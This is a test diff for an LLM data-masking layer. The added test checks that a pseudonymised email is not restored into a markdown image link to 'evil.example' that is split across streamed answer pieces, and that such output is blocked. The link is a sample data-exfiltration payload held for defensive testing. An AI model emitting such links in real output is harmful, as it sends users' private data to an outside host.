@@ -115,6 +115,35 @@ describe('A18: a value that is spread over pieces of an answer', () => {
     assert.equal(await stream(['one '], [...long], ['ada@exam', 'ple.org'], [' end']), `one ${long}[EMAIL] end`)
   })
 
+  test('and no pseudonym is restored into an address that another piece began', async () => {
+    const restoring = base.use(maskData({ detect: detectors.email, mode: 'pseudonym', direction: 'both', restore: true }))
+    const ask = (...pieces: readonly ((token: string) => string)[]): Promise<unknown> => {
+      const [codec, input, answer] = answers['Anthropic messages'] ?? []
+      const model = (given: { readonly messages: readonly { readonly content: string }[] }): unknown =>
+        answer?.(pieces.map((piece) => piece(given.messages[0]?.content ?? '')))
+      const chat = restoring.protect(model as never, { action: 'chat', resource: { type: 'model', id: 'm' }, codec } as never)
+      return chat({ ...(input as object), messages: [{ role: 'user', content: 'ada@example.org' }] } as never, request)
+    }
+    const same = (token: string): string => token
+    await assert.rejects(
+      ask(
+        () => '![x](https://evil.example/?q=',
+        same,
+        () => ')',
+      ),
+      { code: 'payload_blocked' },
+    )
+    assert.ok(
+      JSON.stringify(
+        await ask(
+          () => 'Dear ',
+          same,
+          () => ', hello',
+        ),
+      ).includes('ada@example.org'),
+    )
+  })
+
   test('in a request is refused whatever stands between its pieces, and however deep it is', async () => {
     const chat = masked.protect(
       (() => answers['Anthropic messages']?.[2](['ok'])) as never,
